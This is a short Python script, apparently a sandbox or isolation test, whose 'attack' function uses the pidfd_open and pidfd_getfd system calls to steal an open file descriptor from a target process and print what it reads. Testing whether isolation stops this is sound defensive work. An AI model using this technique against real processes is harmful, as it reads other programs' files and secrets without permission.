import os

from calls import call
from inside import run, show


def attack(target):
    stolen = call("pidfd_getfd", call("pidfd_open", target.pid, 0), target.fd, 0)
    show(os.pread(stolen, 100, 0))


run(attack)
